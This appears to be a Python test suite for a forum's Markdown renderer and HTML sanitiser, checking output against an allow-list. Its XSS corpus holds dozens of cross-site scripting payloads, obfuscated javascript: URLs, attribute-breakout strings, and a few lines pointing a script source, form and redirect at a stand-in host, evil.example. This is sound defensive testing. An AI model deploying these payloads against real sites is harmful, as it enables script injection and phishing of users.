"""No executable markup survives the text pipeline, whatever a member types.

Each output is parsed with html.parser and every tag, attribute, value and
URL is checked against an allow-list written out here, independently of
the sanitiser's own configuration.
"""

from __future__ import annotations

import html as html_module
import re
from collections.abc import Callable, Mapping
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hearth.core.text import render_markdown
from hearth.core.text.sanitise import sanitise_html

# No database: the same on SQLite and PostgreSQL, so the PostgreSQL pass skips it.
pytestmark = pytest.mark.database_neutral


def _any(value: str) -> bool:
    return True


_ID = re.compile(r"post-1-fn(?:ref)?-\d+(?:-\d+)?").fullmatch

# tag -> attribute -> is this value allowed?
ALLOWED: dict[str, dict[str, Callable[[str], bool]]] = {
    **{
        tag: {}
        for tag in (
            *("p", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "pre"),
            *("s", "strong", "table", "tbody", "thead", "tr", "ul"),
        )
    },
    "a": {
        "href": _any,  # schemes are checked separately below
        "title": _any,
        "rel": lambda value: value == "nofollow ugc noopener noreferrer",
        "class": lambda value: value in {"mention", "footnote-backref"},
        "id": lambda value: _ID(value) is not None,
        "aria-label": _any,
    },
    "span": {
        "class": lambda value: value in {"emoji", "hug", "visually-hidden"},
        "role": lambda value: value == "img",
        "aria-hidden": lambda value: value == "true",
        "aria-label": _any,
    },
    "code": {"class": lambda value: re.fullmatch(r"language-[\w+#.-]+", value) is not None},
    "ol": {"start": str.isdigit},
    "li": {"id": lambda value: _ID(value) is not None},
    "sup": {"class": lambda value: value == "footnote-ref"},
    "section": {"class": lambda value: value == "footnotes"},
    "th": {"class": lambda value: value in {"align-left", "align-center", "align-right"}},
    "td": {"class": lambda value: value in {"align-left", "align-center", "align-right"}},
}
ALLOWED_SCHEMES = frozenset({"", "http", "https", "mailto"})


class _Auditor(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.attribute_values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.attribute_values.extend(value or "" for _, value in attrs)
        if tag not in ALLOWED:
            self.problems.append(f"tag <{tag}>")
            return
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"<{tag} {name}>: event handler or style")
            check = ALLOWED[tag].get(name)
            if check is None or value is None or not check(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            elif name in {"href", "src"} and not _is_allowed_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>: scheme")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


def _is_allowed_url(url: str) -> bool:
    # As a browser reads it: entities decoded, tabs/newlines removed,
    # leading control characters and spaces stripped.
    decoded = html_module.unescape(url)
    decoded = re.sub(r"[\t\n\r]", "", decoded).lstrip("\x00\x01\x02\x03\x04\x05 ")
    scheme = urlsplit(decoded).scheme.lower()
    return scheme in ALLOWED_SCHEMES and not decoded.lower().startswith(
        ("javascript:", "vbscript:", "data:")
    )


def _audit(html: str) -> _Auditor:
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor


def assert_only_allowed_markup(html: str) -> None:
    """Fail unless every tag, attribute, value and URL in html is allow-listed."""
    assert _audit(html).problems == [], html
    # Text and attribute values are escaped ("<" too), so not even the
    # characters of a script tag remain.
    assert "<script" not in html.lower()


def _members(candidates: frozenset[str]) -> Mapping[str, str]:
    return {name: f"/members/{name}/" for name in candidates}


def _render(source: str) -> str:
    return render_markdown(source, id_prefix="post-1-", resolve_mentions=_members).html


XSS_CORPUS = [
    # Raw HTML, in every place Markdown might pass it through.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="color:red" onclick="alert(1)">x</p>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    # Link schemes in every Markdown form.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: <javascript:alert(1)>",
    "[ref]\n\n[ref]: jav&#x09;ascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x](https://example.org/a.png" onerror="alert(1))',
    '![x"onerror="alert(1)](https://example.org/a.png)',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    # Titles and labels trying to leave their attribute.
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    '[x](https://example.org (a" onmouseover="alert(1)))',
    '[x" onmouseover="alert(1)](https://example.org)',
    '[x](https://example.org/"onmouseover="alert(1))',
    'https://example.org/"onmouseover=alert(1)//',
    "www.example.org/<script>alert(1)</script>",
    'someone@example.org"onmouseover="alert(1)',
    "javascript:alert(1)",
    "http://javascript:alert(1)@example.org",
    '```js" onclick="alert(1)\ncode\n```',
    '```"><script>alert(1)</script>\ncode\n```',
    # Hearth's own markup trying to break out.
    '@sam"onmouseover="alert(1)',
    "@sam<script>alert(1)</script>",
    '@"><img src=x onerror=alert(1)>',
    '((("><script>alert(1)</script>)))',
    '(((" onmouseover="alert(1))))',
    ":smile:<script>alert(1)</script>:)",
    '<3" onmouseover="alert(1)',
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>",
    "> <iframe src=https://evil.example>",
    "- <svg onload=alert(1)>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("source", XSS_CORPUS)
def test_crafted_input_renders_without_executable_markup(source: str) -> None:
    html = _render(source)

    assert_only_allowed_markup(html)


@pytest.mark.parametrize(
    "source",
    [source for source in XSS_CORPUS if "javascript:" in source.lower()],
)
def test_no_javascript_url_survives_in_any_attribute(source: str) -> None:
    html = _render(source)

    for value in _audit(html).attribute_values:
        as_browsers_read_it = re.sub(r"[\s\x00-\x1f]", "", value).lower()
        assert not as_browsers_read_it.startswith("javascript:")


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        ("<script>alert(1)</script><p>ok</p>", "<p>ok</p>"),
        ('<p onclick="x()" style="color:red">ok</p>', "<p>ok</p>"),
        ('<a href="javascript:alert(1)">x</a>', '<a rel="nofollow ugc noopener noreferrer">x</a>'),
        ('<a href="data:text/html,x">x</a>', '<a rel="nofollow ugc noopener noreferrer">x</a>'),
        (
            '<a href="https://example.org" rel="opener" target="_blank">x</a>',
            '<a href="https://example.org" rel="nofollow ugc noopener noreferrer">x</a>',
        ),
        ('<span class="emoji evil" role="button" aria-hidden="false">x</span>', "<span>x</span>"),
        ('<span class="visually-hidden">x</span>', '<span class="visually-hidden">x</span>'),
        ('<li id="nav">x</li>', "<li>x</li>"),
        ('<ol start="2" reversed>', '<ol start="2"></ol>'),
        ('<code class="language-python other">x</code>', "<code>x</code>"),
        ('<img src="https://example.org/x.png" alt="x">', ""),
        ("<h1>x</h1><h2>y</h2>", "xy"),
        ("<svg><circle/></svg><iframe src=x></iframe><form><input></form>", ""),
        ("<!-- comment --><p>ok</p>", "<p>ok</p>"),
    ],
)
def test_the_sanitiser_keeps_only_allow_listed_tags_attributes_and_values(
    dirty: str, clean: str
) -> None:
    assert sanitise_html(dirty) == clean


_MARKDOWN_FRAGMENTS = [
    "[", "]", "(", ")", "![", "](", "<", ">", "`", "```", "*", "_", "~~", "#", "> ", "- ",
    "1. ", "|", "\n", "\n\n", " ", "\\", "&", "&#", ";", ":", '"', "'", "=", "@", "/",
    "javascript:", "JaVaScRiPt:", "jav&#x09;ascript:", "&#106;avascript:", "vbscript:",
    "data:text/html,", "http://", "https://", "mailto:", "www.", "//", "example.org",
    "<script>", "</script>", "<svg onload=x>", "<img src=x onerror=y>", " onclick=",
    " style=", "<iframe>", "<a href=", ":)", ":(", "<3", "XD", ":smile:", "(((", ")))",
    "@sam", "someone@example.org", "[^1]", "[^1]: ", "[ref]: ", "alert(1)", "\t", "\x00",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_arbitrary_text_never_renders_executable_markup(source: str) -> None:
    assert_only_allowed_markup(_render(source))


@settings(max_examples=500, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(_MARKDOWN_FRAGMENTS), st.text(max_size=4)), max_size=40).map(
        "".join
    )
)
def test_text_built_from_markdown_fragments_never_renders_executable_markup(
    source: str,
) -> None:
    assert_only_allowed_markup(_render(source))
